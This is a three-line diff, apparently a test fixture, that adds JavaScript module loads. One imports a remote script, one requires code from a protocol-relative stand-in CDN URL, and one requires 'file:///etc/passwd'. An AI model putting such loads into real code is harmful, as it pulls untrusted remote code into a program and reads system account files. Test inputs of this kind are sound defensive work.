@@ -1,0 +1,3 @@
+import './remote.js';
+const x = require(`//cdn.example.com/x.js`);
+require('file:///etc/passwd');
